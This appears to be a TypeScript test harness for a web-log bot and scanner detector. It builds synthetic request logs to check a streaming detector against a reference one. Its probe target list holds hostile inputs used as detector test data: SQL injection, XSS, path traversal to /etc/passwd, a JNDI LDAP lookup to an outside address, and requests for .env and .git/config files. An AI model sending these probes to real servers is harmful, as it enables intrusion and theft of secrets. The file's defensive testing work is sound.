import type { Hit, SignatureHit } from '../../src/core/types.ts';
import { actorKeyOf } from '../../src/core/ip.ts';
import type { Rule } from '../../src/detect/load-rules.ts';
import type { CrawlerDef } from '../../src/detect/crawler-claim.ts';
import { detectActor, type ActorFacts } from '../../src/detect/detect-actor.ts';
import { viewOf } from '../../src/detect/request-view.ts';
import { StreamDetector, type DetectionOutput, type StreamOptions } from '../../src/detect/stream-detector.ts';
import { prng } from '../../scripts/bench/prng.ts';

// Both detectors over the same requests: detectActor on each actor's requests (the reference), and
// the streaming detector fed the requests in the order given (the order they were read).

export interface HarnessOptions {
  rules: readonly Rule[];
  crawlers?: readonly CrawlerDef[];
  facts?: (key: string) => ActorFacts;
  slackMs?: number;
  windowMs?: number;
  windowStart?: number;
}

export function byActor(hits: readonly Hit[]): Map<string, Hit[]> {
  const m = new Map<string, Hit[]>();
  for (const h of hits) {
    const k = actorKeyOf(h.ip, 64);
    const list = m.get(k);
    if (list) list.push(h);
    else m.set(k, [h]);
  }
  return m;
}

export function referenceSignatures(hits: readonly Hit[], o: HarnessOptions): Map<string, SignatureHit[]> {
  const out = new Map<string, SignatureHit[]>();
  for (const [k, list] of byActor(hits)) {
    const sigs = detectActor(list, o.rules, o.facts?.(k) ?? {});
    if (sigs.length) out.set(k, sigs);
  }
  return out;
}

export function streamOptions(o: HarnessOptions, extra: Partial<StreamOptions> = {}): StreamOptions {
  return {
    rules: o.rules, crawlers: o.crawlers ?? [], ipv6Prefix: 64, windowMs: o.windowMs ?? Infinity,
    // freeze every quiet actor (the default keeps 50,000 as objects): the frozen form is exercised too
    slackMs: o.slackMs ?? 3_600_000, maxUserAgents: 12, facts: o.facts ?? (() => ({})), hotActors: 1, ...extra,
  };
}

export function runStream(hits: readonly Hit[], o: HarnessOptions, extra: Partial<StreamOptions> = {}): DetectionOutput {
  const d = new StreamDetector(streamOptions(o, extra));
  // a request's id doubles as where it was read
  for (const h of hits) d.push(h, h.id);
  return d.finish({ windowStart: o.windowStart ?? -Infinity });
}

export function streamSignatures(hits: readonly Hit[], o: HarnessOptions): Map<string, SignatureHit[]> {
  const out = new Map<string, SignatureHit[]>();
  for (const a of runStream(hits, o).outcomes) if (a.signatures.length) out.set(a.key, a.signatures);
  return out;
}

/** The comparable part of a signature: rule, count, first/last time and evidence ids. */
export function brief(m: Map<string, SignatureHit[]>): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const [k, sigs] of [...m].sort(([a], [b]) => a.localeCompare(b))) {
    out[k] = sigs.map((s) => `${s.ruleId} n=${s.count} ${s.firstTs}..${s.lastTs} [${s.requestIds.join(',')}]`);
  }
  return out;
}

export { prng };

const TARGETS = [
  '/', '/', '/', '/index.html', '/blog/post-1', '/img/a.png', '/css/site.css', '/favicon.ico', '/wp-login.php', '/administrator/',
  '/phpmyadmin', '/phpmyadmin/', '/.env', '/.git/config', '/backup.zip', '/db.sql', '/xmlrpc.php', '/?author=1', '/?author=2', '/?author=3',
  '/?author=4', '/?author=5', '/?author=6', '/p?id=1+union+select+1,2',
  '/s?q=%3Cscript%3Ealert(1)%3C/script%3E', '/dl?f=../../../etc/passwd', '/cgi-bin/test.cgi', '/shop', '/shop/', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/?x=${jndi:ldap://198.51.100.9/a}', '/wp-content/plugins/revslider/temp.php', '/apple-touch-icon.png', '/robots.txt',
];
const UAS = [
  'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0', '', 'sqlmap/1.7 (https://sqlmap.org)',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'curl/8.5.0', 'x', 'Mozilla/5.0', 'Nikto/2.5',
];
const STATUSES = [200, 200, 200, 302, 404, 404, 404, 403, 400, 301, 500, 405];
const ADDRESSES = ['203.0.113.7', '203.0.113.8', '198.51.100.20', '2001:db8:1:2::10', '2001:db8:1:2::11', '192.0.2.1'];

export interface RandomLog { hits: Hit[]; maxLateness: number }

/**
 * Requests of a few actors: ordinary pages, probes from the rule lists, 302→404 pairs, bursts, long
 * quiet gaps; times on whole seconds (so many tie), then read in an order that is up to `jitterMs`
 * late. Ids follow the reading order, as ingest assigns them.
 */
export function randomLog(seed: number, n: number, jitterMs: number, gapMs = 3_600_000): RandomLog {
  const r = prng(seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
  const events: Omit<Hit, 'id'>[] = [];
  let t = Date.UTC(2026, 0, 1);
  const ev = (ip: string, target: string, extra: Partial<Hit> = {}) => events.push({
    ip, ts: t, method: 'GET', target, protocol: 'HTTP/1.1', status: pick(STATUSES), bytes: 10, referer: r() < 0.1 ? 'http://192.0.2.50/' : '',
    ua: pick(UAS), host: '', tag: null, raw: '', badUtf8: false, ...extra,
  });
  // a prober whose share of misses varies by seed (404-ratio bands), a flooder, a TLS prober
  const missShare = 0.4 + r() * 0.55;
  while (events.length < n) {
    const x = r();
    t += x < 0.02 ? Math.floor(r() * gapMs) : x < 0.5 ? 0 : Math.floor(r() * 4) * 1000 + (r() < 0.2 ? Math.floor(r() * 1000) : 0);
    const ip = pick(ADDRESSES);
    const y = r();
    if (y < 0.03) {
      // a burst of pages
      const ua = pick(UAS);
      for (let i = 0; i < 35; i++) { ev(ip, `/page/${i % 12}`, { ua, status: 200 }); t += Math.floor(r() * 400); }
    } else if (y < 0.08) {
      const p = pick(['/shop', '/phpmyadmin', '/admin', '/x']);
      ev(ip, p, { status: 302 });
      t += Math.floor(r() * 8000);
      ev(ip, r() < 0.5 ? `${p}/` : p, { status: 404 });
    } else if (y < 0.1) {
      ev(ip, '', { method: '', protocol: '', status: 400, tag: 'tls-handshake', raw: '\\x16\\x03\\x01' });
    } else if (y < 0.13) {
      ev(ip, '/xmlrpc.php', { method: 'POST', status: pick([200, 404, 405]) });
    } else if (y < 0.15) {
      ev(ip, pick(TARGETS), { method: 'PROPFIND' });
    } else if (y < 0.25) {
      ev('198.51.100.99', `/q${Math.floor(r() * 60)}`, { status: r() < missShare ? 404 : 200 });
    } else if (y < 0.28) {
      ev('198.51.100.98', '/xmlrpc.php', { method: 'POST', status: 200, ua: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0' });
    } else if (y < 0.3) {
      ev('198.51.100.97', '', { method: '', protocol: '', status: 400, tag: pick(['tls-handshake', 'rdp-probe', 'binary'] as const), raw: '\\x16\\x03' });
    } else if (y < 0.35) {
      ev(ip, `/m${Math.floor(r() * 40)}`, { status: 404, ua: `agent-${Math.floor(r() * 20)}` });
    } else {
      ev(ip, pick(TARGETS));
    }
  }
  // the reading order: each request shifted by up to jitterMs, then sorted
  const keyed = events.map((e) => ({ e, at: e.ts + Math.floor(r() * jitterMs) }));
  keyed.sort((a, b) => a.at - b.at);
  let newest = -Infinity;
  let maxLateness = 0;
  const hits = keyed.map((k, i) => {
    newest = Math.max(newest, k.e.ts);
    maxLateness = Math.max(maxLateness, newest - k.e.ts);
    return { ...k.e, id: 1000 + i };
  });
  return { hits, maxLateness };
}

/**
 * The reference under the window semantics: for each rule, M = its matching requests in time order,
 * cut after the last gap longer than the window; the rule is judged by detectActor on that episode
 * alone, and not at all when the episode's newest request is older than windowStart.
 */
export function referenceEpisodes(hits: readonly Hit[], o: HarnessOptions & { windowMs: number; windowStart: number }): Map<string, SignatureHit[]> {
  const out = new Map<string, SignatureHit[]>();
  for (const [k, list] of byActor(hits)) {
    const sorted = [...list].sort((a, b) => a.ts - b.ts || a.id - b.id);
    const views = sorted.map(viewOf);
    const sigs: SignatureHit[] = [];
    for (const rule of o.rules) {
      const m = rule.test ? views.filter((v) => rule.test!(v)) : views;
      if (m.length === 0) continue;
      let start = 0;
      for (let i = 1; i < m.length; i++) if (m[i]!.hit.ts - m[i - 1]!.hit.ts > o.windowMs) start = i;
      const episode = m.slice(start);
      if (episode[episode.length - 1]!.hit.ts < o.windowStart) continue;
      sigs.push(...detectActor(episode.map((v) => v.hit), [rule], o.facts?.(k) ?? {}));
    }
    if (sigs.length) out.set(k, sigs);
  }
  return out;
}

/** The persisted states of a run, one object per actor. */
export function statesOf(out: DetectionOutput): { key: string; requests: number; firstSeen: number; lastSeen: number; state: Uint8Array }[] {
  const s = out.states;
  return s.keys.map((key, i) => ({
    key, requests: s.nums[3 * i]!, firstSeen: s.nums[3 * i + 1]!, lastSeen: s.nums[3 * i + 2]!, state: s.bytes.slice(s.offsets[i]!, s.offsets[i + 1]!),
  }));
}
